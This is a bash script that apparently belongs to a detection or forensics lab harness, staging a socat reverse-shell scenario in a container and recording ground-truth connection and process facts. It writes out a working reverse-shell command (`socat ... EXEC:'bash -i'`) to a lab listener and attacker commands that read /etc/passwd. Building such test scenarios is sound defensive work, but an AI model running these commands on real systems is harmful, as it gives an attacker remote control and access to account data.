#!/bin/bash
# Scenario revshell-socat: a reverse shell relayed by socat. `socat TCP:127.112.x.y:P
# EXEC:'bash -i',stderr,setsid` holds the connection; bash -i's stdin, stdout and stderr are a
# unix socket pair to socat (no socket to the attacker of its own). The attacker runs a few
# commands; the last one, a tail -f of the app log, is still running at the checkpoint.
# Usage: lab/scenarios/revshell-socat.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init revshell-socat "$@"
lab_use_tools_image

REV="$(lab_addr 112):$(lab_pick 443 8443 5555 6001)"
COMMAND="socat TCP:$REV EXEC:'bash -i',stderr,setsid"
CMDS='id|hostname|cat /etc/passwd|tail -f /var/log/app.log'

lab_shell_listener "$REV" "$CMDS"

lab_run --env APP_ENV=prod --hostname pdf-render -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_exec_bg "$COMMAND"
lab_wait_shell_done

lab_finish /var/log/app.log

lab_kv_json "$WORK/params.json" "listener=$REV" "command=$COMMAND" "attacker_commands:=$(IFS='|'; lab_json_list $CMDS)"
lab_facts --conn "relay=$REV" --proc "shell=^bash -i" --proc "running=^tail -f"
lab_truth --description "reverse shell through socat: $COMMAND; the attacker's tail -f still runs" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
